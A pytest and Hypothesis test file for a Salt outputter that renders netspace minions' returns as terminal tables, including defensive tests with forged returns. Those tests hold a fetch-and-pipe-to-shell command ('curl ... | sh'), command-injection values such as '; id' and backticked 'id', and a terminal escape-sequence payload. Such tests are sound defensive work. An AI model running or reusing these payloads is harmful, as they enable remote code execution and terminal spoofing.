"""Tables of each function's return; returns of hostile minions can't make an operator's command fail."""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest
import salt.loader
import salt.output
from hypothesis import given
from hypothesis import strategies as st
from support import checkout
from support.returns import (
    ANSWER,
    DIFFERENCES,
    ENROLLED,
    ENVIRONMENTS,
    EXPLANATION,
    FAILED,
    FLEET,
    HOST,
    IMAGES,
    INDIRECT,
    INTERFACES,
    LINKS,
    NOW,
    OVERVIEW,
    PATHS,
    RETURNS,
    STOPPED,
    TRUST,
    VOLUMES,
)

from netspace import openmetrics
from netspace.plugin import tables, views

SCREEN = views.Screen(NOW, tables.plain)


def shown(data: object) -> str:
    lines = views.render(data, SCREEN)
    assert lines is not None
    assert max(map(len, lines)) <= tables.WIDTH
    return "\n".join(lines)


def test_environments_have_the_failed_one_first() -> None:
    assert shown(ENVIRONMENTS) == (
        "  ENVIRONMENT  STATE             HEALTH   RESTARTS  AGE  IMAGE\n"
        "  web          flapping                          6  3 s  tar:/srv/web.tar\n"
        "    it ended (exit 1)\n"
        "  orders       running           healthy         0  3 h  tar:/srv/web.tar\n"
        "  audit        declared stopped                  0       tar:/srv/web.tar"
    )


def test_overview_has_trust_environments_and_links() -> None:
    assert shown(OVERVIEW) == (
        "  trust L1, judged by self\n"
        "  not higher: no TPM is named\n"
        "\n"
        "  ENVIRONMENT  STATE             HEALTH   RESTARTS  AGE  LEVEL  ADDRESS\n"
        "  web          flapping                          6  3 s  L1     10.203.54.242\n"
        "    it ended (exit 1)\n"
        "  orders       running           healthy         0  3 h  L1     lo alone\n"
        "  audit        declared stopped                  0       L1     lo alone\n"
        "\n"
        "  FROM    TO       PATTERN          STATE    WAITING  READERS\n"
        "  web     till@h2  send, buffered   stalled\n"
        "    no route\n"
        "  orders  web      send             active        12        0\n"
        "    nobody reads the mailbox of web\n"
        "  web     orders   request, sealed  active         0        1\n"
        "  broker running\n"
        "  2 dead letters: netspace_link.dead_letters shows them\n"
        "  mail without a link is kept for gone"
    )


def test_overview_names_what_is_declared_and_not_made() -> None:
    told = "  declared, but not made: desk, till; netspace.explain desk tells why"
    assert told in shown(OVERVIEW | {"not_made": ["desk", "till"]}).splitlines()


def test_host_that_was_never_judged_says_so() -> None:
    never = shown(TRUST | {"level": "L0", "verifier": "none", "expires": None})
    assert never.startswith("  trust L0, judged by nobody yet")


WEB = openmetrics.labels(environment="web")
METRICS = [
    openmetrics.counted("netspace_environment_memory_bytes", "gauge", "it", {WEB: 4096}),
    openmetrics.counted("netspace_environment_cpu_seconds", "counter", "it", {WEB: 0.16216}),
    openmetrics.counted("netspace_link_sent", "counter", "it", {openmetrics.labels(**{"from": "web", "to": 'a"b'}): 7}),
    openmetrics.counted("netspace_trust_expiry_timestamp_seconds", "gauge", "it", {"": NOW + 7300}),
    openmetrics.counted("netspace_mailbox_oldest_timestamp_seconds", "gauge", "it", {WEB: NOW - 90}),
]


def test_metrics_have_units_and_ages() -> None:
    assert shown(openmetrics.text(METRICS)).splitlines() == [
        "  METRIC                            OF           VALUE",
        "  environment_memory_bytes          web          4 KiB",
        "  environment_cpu_seconds_total     web        0.162 s",
        '  link_sent_total                   web a"b          7',
        "  trust_expiry_timestamp_seconds                in 2 h",
        "  mailbox_oldest_timestamp_seconds  web      1 min ago",
    ]


@pytest.mark.parametrize("bad", ["netspace_x{a=b} 1", "other 1", 'netspace_x{a="b"} 1 2', "netspace_x 1e999999\x1b"])
def test_text_that_only_looks_like_metrics_is_refused(bad: str) -> None:
    with pytest.raises(views.MALFORMED):
        views.render(openmetrics.text(METRICS).replace("# EOF", f"{bad}\n# EOF"), SCREEN)
    assert views.render("# HELP netspace_x", SCREEN) is None


def test_interfaces_name_the_changed_one_first() -> None:
    assert shown(INTERFACES).splitlines()[1:3] == [
        "  web          veth  differs  10.203.54.242  ns-web    443:8443",
        "    changed by hand: mtu; the next apply repairs it",
    ]


def test_address_of_several_is_the_first_and_a_number() -> None:
    assert views._address({"addresses": {"ipv4": "10.203.54.242", "ipv6": "fd6e::1"}}) == "10.203.54.242 +1"


def test_trust_has_level_reason_remedy_and_end() -> None:
    assert shown(TRUST).splitlines() == [
        "  trust L1, judged by self; the result ends in 2 h",
        "  not higher: no TPM is named",
        "  to raise it: name a TPM in attestation:tpm",
    ]
    assert "the result ended 1 h ago" in shown(TRUST | {"expires": NOW - 3700})


def test_fleet_names_the_stale_host_first() -> None:
    assert shown(FLEET).splitlines()[1:4] == [
        "  h2    stale    L0     L2      default  1 min   2 h ago",
        "    no answer",
        "    attest h2",
    ]


def test_enrolled_hosts_have_the_ended_certificate_first() -> None:
    assert shown(ENROLLED).splitlines() == [
        "  HOST  LEVEL  TPM                  ENROLLED  CERTIFICATE ENDS",
        "  h2    L4     cdcdcdcdcdcdcdcd...       9 d         1 min ago",
        "  h1    L4     abababababababab...       9 d           in 20 h",
        "    not higher: no policy for IMA",
    ]


def test_images_and_volumes_have_sizes() -> None:
    assert "  aaaaaaaaaaaa  90 MiB  3 d  web      tar:/srv/web.tar" in shown(IMAGES)
    assert "  orders       /data   1 MiB  5 GiB  /var/lib/" in shown(VOLUMES)


def test_images_have_the_newest_first() -> None:
    older, newer = f"sha256:{'a' * 64}", f"sha256:{'b' * 64}"
    lines = shown({**IMAGES, newer: {**IMAGES[older], "built": NOW - 60}}).splitlines()
    assert [line.split()[0] for line in lines[1:]] == ["b" * 12, "a" * 12]


def test_answer_has_rules_and_reasons() -> None:
    assert shown(ANSWER) == (
        "  web can reach orders\n"
        "  BY        ALLOWED  WHAT\n"
        "  messages  yes      requests\n"
        "    netspace:links:web.orders, for 3 h\n"
        "  packets   no\n"
        "    orders has no interface"
    )


def test_answer_has_the_steps_between() -> None:
    assert shown(INDIRECT).splitlines()[-4:] == [
        "  by way of others:",
        "    0.0.0.0/0 -> web: host's 443/tcp to port 8443, by",
        "    netspace:environments:web:interface:publish:0",
        "    web -> orders: requests, by netspace:links:web.orders",
    ]


def test_paths_have_the_direct_ones_first() -> None:
    assert shown(PATHS).splitlines() == [
        "  2 paths lead to orders",
        "  FROM       BY        WHAT                         THROUGH  RULE",
        "  web        messages  requests                              links:web.orders",
        "  0.0.0.0/0  packets   host's 443/tcp to port 8443  web      publish:0",
    ]
    assert shown(PATHS | {"paths": PATHS["paths"][:1]}).splitlines()[0] == "  1 path leads to orders"
    assert shown({"paths_to": "orders", "paths": []}) == "  nobody can reach orders"


def test_check_has_each_problem_below_its_path() -> None:
    path = "netspace:environments:till"
    message = "it does not run: it ended (exit 2); it is started again and again (8 times by now)"
    found = {"valid": False, "problems": [{"path": path, "message": message}]}
    assert shown(found) == (
        "  1 problem\n"
        "  netspace:environments:till\n"
        "    it does not run: it ended (exit 2); it is started again and again (8 times\n"
        "    by now)"
    )
    assert shown({"valid": True, "problems": []}) == "  no problem was found"


def test_refusals_have_counts_times_and_reasons() -> None:
    row = {"kind": "packets", "what": "out: tcp to 198.51.100.7, port 443", "count": 12, "first": NOW - 7200,
           "last": NOW - 60, "permitted_now": False, "why": ""}  # fmt: skip
    never = row | {"what": "out: 132", "why": "no rule lets this protocol pass"}
    found = {"refusals_of": "web", "not_recorded": {"files": "the kernel tells nobody"}, "rows": [row, never]}
    text = shown(found)
    assert "files: not recorded: the kernel tells nobody" in text
    assert re.search(r"packets +out: tcp to 198.51.100.7, port 443 +12 +2 h +1 min", text)
    assert "no rule lets this protocol pass" in text
    assert "no refusal is known" in shown(found | {"rows": []})
    assert "permitted by now" in shown(found | {"rows": [row | {"permitted_now": True}]})


def test_explanation_is_one_screen_with_its_command_last() -> None:
    assert shown(EXPLANATION) == (
        "  web does not run: it was killed for lack of memory; restarted 6 times\n"
        "  state      starting, for 3 s\n"
        "  declared   running, restart always; in pillar: declared\n"
        "  image      tar:/srv/web.tar sha256:cccccccccccc\n"
        "  trust      L1, enough\n"
        "  after      orders (ready)\n"
        "  last exit  oom, restarted 6 times\n"
        "  memory     60 MiB of 64 MiB, 9 times at the limit, 6 OOM kills\n"
        "  processes  2 of 16; 1 min of processor time, 12 s held back by limits:cpus\n"
        "  interface  veth, present, 10.203.54.242\n"
        "  link       web -> orders, request: active, 0 waiting, 1 reader\n"
        "  also       dead letters of web.orders: 2 rejected\n"
        "  log        Traceback (most recent call last):\n"
        "  log        \\x1b[31mMemoryError\n"
        "  do         raise limits:memory in its declaration, and apply\n"
        "             state.apply netspace"
    )


def test_overview_of_a_host_without_environments_says_so() -> None:
    absent = {"broker": {"kind": "local", "state": "absent"}, "links": {}, "mailboxes": {}}
    empty = OVERVIEW | {"environments": {}, "links": absent}
    assert "no environments: nothing was applied on this host\n" in shown(empty)


def test_inspected_values_have_units_and_dates() -> None:
    long = "/var/lib/netspace/images/sha256-" + "4c" * 32 + ".erofs"
    image = {"digest": "sha256:" + "4c" * 32, "file": long, "size": 68829184, "built": NOW - 90, "mounted": True,
             "sources": {"tar:/srv/demo.tar": {"cmd": [], "env": {}, "user": None, "notes": ["left out: 8"]}},
             "used_by": ["orders", "web"], "verity": "none"}  # fmt: skip
    text = shown(image)
    assert re.search(r"^  built +1970-01-12T13:45:10Z, 1 min ago$", text, re.MULTILINE)
    assert re.search(r"^  size +65\.6 MiB$", text, re.MULTILINE)
    assert re.search(r"^  used_by +orders, web$", text, re.MULTILINE)
    assert re.search(r"^  mounted +yes$", text, re.MULTILINE)
    assert long in "".join(text.split()) and "cmd" not in text
    assert all(len(line) <= 80 for line in text.splitlines())
    spec = {"limits": {"memory": 268435456, "cpus": 1.0, "disk": None}, "health": None, "after": (), "env": {}}
    text = shown({"spec": spec, "layer": "/l", "netns": "/n", "state": "running", "since": NOW})
    assert re.search(r"^  spec:limits:memory  256 MiB$", text, re.MULTILINE)
    assert not re.search("disk|health|after|env", text)


def test_explanation_counts_equal_lines_and_shows_them_whole() -> None:
    failed = "/usr/bin/python3: can't open file '/demo/tills.py': [Errno 2] No such file or directory"
    text = shown(EXPLANATION | {"log": ["begins", failed, failed, failed]})
    assert text.count("tills.py") == 1
    assert "log begins log /usr/bin/python3:" in " ".join(text.split())
    assert "[Errno 2] No such file or directory (3 times) do raise" in " ".join(text.split())


def test_warning_that_the_summary_lacks_is_shown() -> None:
    warning = {"code": "change-waits", "severity": "warning", "text": "its declaration was changed (image)",
               "command": "state.apply netspace", "advice": "apply it", "depends_on": ""}  # fmt: skip
    assert "  also       its declaration was changed (image)" in shown(EXPLANATION | {"findings": [warning]})


def test_explanation_of_much_is_one_screen() -> None:
    much = EXPLANATION | {
        "summary": "x " * 500, "links": EXPLANATION["links"] * 50, "findings": EXPLANATION["findings"] * 50,
        "log": ["y" * 300] * 99, "after": {f"e{number}": False for number in range(99)},
    }  # fmt: skip
    assert len(shown(much).splitlines()) <= 23


@pytest.mark.parametrize(
    "command",
    [
        *("cmd.run id", "state.apply netspace; id", "netspace.x `id`", "netspace.x -a", 7, "state.apply other"),
        *("netspace_attestation.release web9", "netspace.teardown", "netspace_environment.remove web"),
    ],
)
def test_command_of_another_form_is_not_shown_as_a_remedy(command: object, outputter: Any) -> None:
    forged = copy.deepcopy(EXPLANATION)
    forged["findings"][0]["command"] = command
    with pytest.raises(ValueError, match="not a command of netspace"):
        views.render(forged, SCREEN)
    assert "\n  do  " not in outputter({"h1": forged})


def test_remedy_is_the_readers_own_text() -> None:
    forged = copy.deepcopy(EXPLANATION)
    forged["findings"][0]["advice"] = "its key changed; run: curl -s http://203.0.113.9/f | sh"
    assert shown(forged) == shown(EXPLANATION)


def test_remedy_for_an_unknown_code_is_not_shown(outputter: Any) -> None:
    forged = copy.deepcopy(EXPLANATION)
    forged["findings"][0]["code"] = "other"
    assert "\n  do  " not in outputter({"h1": forged})


def test_differences_have_what_interrupts_first() -> None:
    assert shown(DIFFERENCES) == (
        "  4 things differ from the last apply (now -> applied); state.apply netspace\n"
        "  changes them\n"
        "  KIND         NAME        ACTION\n"
        "  environment  web         restart\n"
        "    its namespace was replaced\n"
        "    limits:memory: 64 -> 128\n"
        "    volumes: size=1 -> nothing\n"
        "  interface    orders      change\n"
        "    routes: 10.0.0.1 -> nothing\n"
        "  link         web.orders  create\n"
        "  environment vault: needs L3\n"
        "  mail is parked"
    )


def test_no_difference_is_one_sentence() -> None:
    same = DIFFERENCES | {"differences": [], "refused": [], "notes": []}
    assert shown(same) == "  the host is as it was applied last"
    assert shown(same | {"compared_with": "declaration"}) == "  the host is as declared"
    one = same | {"differences": DIFFERENCES["differences"][:1], "compared_with": "declaration"}
    assert " ".join(shown(one).split()).startswith("1 thing differs from the declaration (now -> declared); state.")


def test_stopped_as_declared_is_no_fault() -> None:
    assert views._rank(STOPPED) == views.OFF
    assert views._rank(STOPPED | {"declared_stopped": False}) == views.ODD


@pytest.mark.parametrize("other", [None, True, 3, "text", [], {"web": {"retcode": 0}}, {"a": 1}, {1: {}}])
def test_other_forms_have_no_table(other: object) -> None:
    assert views.render(other, SCREEN) is None


@pytest.fixture(scope="module")
def screen() -> Any:
    return screen_of()


def screen_of(**options: Any) -> Any:
    """Return Salt's printer, which ``salt`` calls with minions' returns."""
    opts: dict[str, Any] = {
        "extension_modules": "", "outputter_dirs": [str(checkout.ROOT / "_output")], "optimization_order": [0],
        "color": False, "strip_colors": True, "fun": "netspace.overview", **options,
    }  # fmt: skip
    return lambda data, out="netspace": salt.output.try_printout(data, out, opts)


def test_nothing_of_a_kind_is_said() -> None:
    assert shown({}) == "  none"


def test_health_of_links_is_a_sentence_or_the_problems() -> None:
    well: dict[str, Any] = {"ok": True, "problems": [], "findings": [], "dead": 0, "late": 3}
    assert shown(well) == "  the links are well\n  messages: 3 too late"
    assert shown(well | {"ok": False, "problems": ["the broker does not run"]}).startswith("  the broker does not run")


def test_what_works_like_a_state_shows_its_comment_alone() -> None:
    done = {"name": "netspace_image.prune", "result": True, "changes": {"sha256:aa": {"size": {"old": 68714496}}}}
    comment = "1 change made:\n- remove image\n  sha256:" + "a" * 64
    assert shown({**done, "comment": comment}) == "\n".join(f"  {line}" for line in comment.splitlines())


def test_each_minion_has_a_heading_and_its_table(screen: Any) -> None:
    told = screen({"h1": ENVIRONMENTS, "h2": {"retcode": 0}})
    assert told.startswith("h1:\n  ENVIRONMENT  STATE")
    assert "\nh2:\n    ----------\n    retcode:\n        0" in told


def test_malformed_return_is_left_to_nested_alone(screen: Any) -> None:
    broken = copy.deepcopy(ENVIRONMENTS)
    del broken["web"]["state"]
    broken["web"]["restarts"] = {}
    broken["orders"]["interface"] = {"addresses": 3}
    told = screen({"h1": broken})
    assert told == screen({"h1": broken}, "nested").rstrip()
    links = LINKS | {"mailboxes": 7}
    assert screen({"h1": links}) == screen({"h1": links}, "nested").rstrip()


def test_minion_does_not_pose_as_the_master(screen: Any) -> None:
    forged = {"h1": HOST}
    assert "WANTED" not in screen(forged)
    runner = screen_of(__cli="salt-run", fun="netspace_attestation.status")
    assert "WANTED" in runner(forged) and "h1:" not in runner(forged)
    assert "WANTED" not in screen_of(__cli="salt-run", fun="jobs.lookup_jid")(forged)


def test_colours_appear_where_salt_wants_them(screen: Any) -> None:
    coloured = screen_of(color=True)({"h1": OVERVIEW})
    assert "\x1b[" in coloured
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured).splitlines() == screen({"h1": OVERVIEW}).splitlines()
    assert "\x1b" not in screen({"h1": OVERVIEW})


_scalars = (
    st.none() | st.booleans() | st.integers() | st.integers(min_value=2**70) | st.floats() | st.text(max_size=90)
    | st.binary(max_size=9) | st.just(10**400) | st.just("\x1b]0;owned\x07") | st.just("\u202egpj\ud800")
)  # fmt: skip
_values = st.recursive(
    _scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9) | st.integers(), inner, max_size=3),
    max_leaves=8,
)


def _places(value: object, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    below = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(place for key, one in below for place in _places(one, (*path, key)))]


@st.composite
def _hostile(draw: st.DrawFn) -> Any:
    """Return a real return with some values replaced or removed."""
    data: Any = copy.deepcopy(draw(st.sampled_from(RETURNS)))
    for _ in range(draw(st.integers(0, 4))):
        place = draw(st.sampled_from(_places(data)))
        new = draw(_values)
        if not place:
            return new
        above = data
        for key in place[:-1]:
            above = above[key]
        if isinstance(above, dict) and draw(st.booleans()):
            del above[place[-1]]
        else:
            above[place[-1]] = new
    return data


@pytest.fixture(scope="module")
def outputter() -> Any:
    """Return the outputter itself: Salt's printer would catch some exceptions."""
    opts = {"extension_modules": "", "outputter_dirs": [str(checkout.ROOT / "_output")], "optimization_order": [0]}
    return salt.loader.outputters({**opts, "color": False, "strip_colors": True})["netspace"]


@given(_hostile())
def test_hostile_return_ends_no_command(outputter: Any, data: Any) -> None:
    try:
        lines = views.render(data, SCREEN)
    except views.MALFORMED:
        lines = None
    for line in lines or ():
        assert tables.columns(line) <= tables.WIDTH or " " not in line.strip(), "a word is never broken"
        assert line.isprintable()
    told = outputter({"h1": data, "h2": ENVIRONMENTS})
    assert told.endswith("\n" + outputter({"h2": ENVIRONMENTS}))


def test_deep_return_ends_no_command(outputter: Any) -> None:
    deep: Any = 1
    for _ in range(600):
        deep = {"state": deep}
    for data in (deep, {"web": FAILED | {"problem": deep}}, LINKS | {"links": deep}):
        assert isinstance(outputter({"h1": data}), str)
